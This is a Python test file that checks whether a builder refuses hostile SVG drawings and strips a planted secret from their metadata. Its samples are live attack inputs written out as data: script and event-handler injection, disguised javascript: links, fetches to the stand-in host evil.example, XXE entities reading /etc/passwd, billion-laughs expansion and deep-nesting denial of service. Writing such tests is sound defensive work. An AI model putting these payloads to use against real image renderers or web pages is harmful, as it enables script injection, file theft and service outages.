"""Attacks through SVG drawings: script, fetching, entities and endless repetition."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from builder.engine.workers.pool import Pool
from tests.support.attack_courses import (
    attacked,
    empty_png,
    harmless,
    png,
    svg,
    with_picture,
)
from tests.support.attacks import SECRET

BILLION = "".join(f'<g id="g{n}">' + f'<use href="#g{n - 1}"/>' * 10 + "</g>" for n in range(1, 10))
BILLION_PATTERNS = "".join(
    f'<pattern id="p{n}" width="1" height="1">' + f"<rect style=\"fill:url('#p{n - 1}')\"/>" * 10 + "</pattern>"
    for n in range(1, 10)
)
DRAWINGS = {
    "script": svg("<script>alert(1)</script>"),
    "script in another namespace": svg('<x:script xmlns:x="http://www.w3.org/2000/svg">1</x:script>'),
    "handler": svg("", attributes='onload="alert(1)"'),
    "handler of a shape": svg('<rect onclick="alert(1)" width="5" height="5"/>'),
    "handler in capitals": svg('<rect ONMOUSEOVER="alert(1)" width="5" height="5"/>'),
    "picture of a file": svg('<image href="file:///etc/passwd" width="9" height="9"/>'),
    "picture from the web": svg('<image xlink:href="http://evil.example/x.png" width="9" height="9"/>'),
    "script in a drawing in a picture": svg(
        f'<image href="data:image/svg+xml;base64,{base64.b64encode(svg("<script>1</script>")).decode()}"/>'
    ),
    "bomb in a drawing": svg(
        f'<image href="data:image/png;base64,{base64.b64encode(empty_png(12_000, 12_000)).decode()}"/>'
    ),
    "part of another file": svg('<use href="other.svg#x"/>'),
    "link that acts": svg('<a href="javascript:alert(1)"><rect width="5" height="5"/></a>'),
    "script of a link, disguised": svg('<a href=" &#9;JavaScript:alert(1)"><rect width="5" height="5"/></a>'),
    "page inside": svg(
        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/></foreignObject>'
    ),
    "set of images": svg('<rect style="mask-image:image-set(&quot;http://evil.example/x.png&quot; 1x)"/>'),
    "style in a comment": svg("<style>@im/**/port x; rect{fill:u/**/rl(x);mask:src('//evil.example')}</style>"),
    "handler in a page inside": svg(
        '<foreignObject><b xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)">x</b></foreignObject>'
    ),
    "entity in an entity": svg("&b;", '<!DOCTYPE svg [<!ENTITY a "http:"><!ENTITY b "&a;//evil.example">]>'),
    "entity of parameters": svg("", '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>'),
    "import": svg("<style>@import 'http://evil.example/x.css';</style>"),
    "paint from the web": svg('<rect fill="url(http://evil.example#x)"/>'),
    "style from the web": svg('<rect style="fill:url( &quot;http://evil.example&quot; )"/>'),
    "style in escapes": svg('<rect style="fill:\\75rl(http://evil.example)"/>'),
    "animation of a link": svg('<set attributeName="href" to="javascript:alert(1)"/>'),
    "filter that fetches": svg('<filter id="f"><feImage href="http://evil.example/x.png"/></filter>'),
    "entity of a file": svg("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "billion laughs": svg(
        "<text>&c;</text>", '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>'
    ),
    "billion uses": svg('<g id="g0"><rect width="1" height="1"/></g>' + BILLION),
    "billion patterns": svg(BILLION_PATTERNS),
    "mask of itself": svg('<mask id="m"><rect width="5" height="5" mask="url(#m)"/></mask>'),
    "400 descendant selectors": svg(
        "<style>" + "g g g g g g g g rect{fill:red}" * 400 + "</style>" + "<g>" * 90 + "<rect/>" * 3_000 + "</g>" * 90
    ),
    "3,000 markers of 3,000 shapes": svg(
        f'<marker id="m">{"<path/>" * 3_000}</marker><path marker-mid="url(#m)" d="M0 0{" L1 1" * 3_000}"/>'
    ),
    "groups in groups that are used": svg(
        "".join(f'<g id="g{n}">' + "<g>" * 90 + f'<use href="#g{n + 1}"/>' + "</g>" * 91 for n in range(9))
    ),
    "use of itself": svg('<g id="g"><use href="#g"/></g>'),
    "10,000 groups deep": svg("<g>" * 10_000 + "</g>" * 10_000),
    "UTF-16": svg("<script>alert(1)</script>").decode().encode("utf-16"),
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-script+AD4-',
    "no end": svg("")[:-4],
    "no size": b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    "a mile wide": b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 999999 1"/>',
}


@pytest.mark.parametrize("name", DRAWINGS)
def test_drawings_that_act_or_reach_out_are_refused(pool: Pool, tmp_path: Path, name: str) -> None:
    outcome = attacked(pool, tmp_path, with_picture("x.svg", DRAWINGS[name]))
    assert outcome.codes & {"unsafe-asset", "missing-asset"}
    assert not outcome.outputs


def test_drawings_are_given_away_without_what_their_editor_wrote(pool: Pool, tmp_path: Path) -> None:
    made = svg(
        f"<!-- {SECRET} --><metadata><rdf xmlns='r'>{SECRET}</rdf></metadata>"
        f"<sodipodi:namedview xmlns:sodipodi='s' path='{SECRET}'/><?editor {SECRET}?>"
        f"<text x='9' y='9'>A <sodipodi:x xmlns:sodipodi='s'>{SECRET}</sodipodi:x>word</text>"
        f"<a href='http://evil.example/{SECRET}'><title>{SECRET}</title><desc>{SECRET}</desc></a>"
        f"<g style='display:none'><text>{SECRET}</text></g><g id='{SECRET}' data-file='{SECRET}' class='a'/>"
        "<style>@font-face{font-family:F;src:url(http://evil.example/f.woff2)} text{fill:red}</style>"
        f"<image href='data:image/png;base64,{base64.b64encode(png(text=SECRET)).decode()}' width='9' height='9'/>",
        head=f'<?xml version="1.0"?><?xml-stylesheet href="http://evil.example"?><!-- {SECRET} -->',
        attributes=f"content='{SECRET}' xmlns:inkscape='i' inkscape:export-filename='{SECRET}' xml:base='file:///home/{SECRET}'",
    )
    outcome = attacked(pool, tmp_path, with_picture("x.svg", made))
    assert len(outcome.outputs) == 4, outcome.codes
    assert "A word" in outcome.outputs["slides.pptx"]
    harmless(outcome)
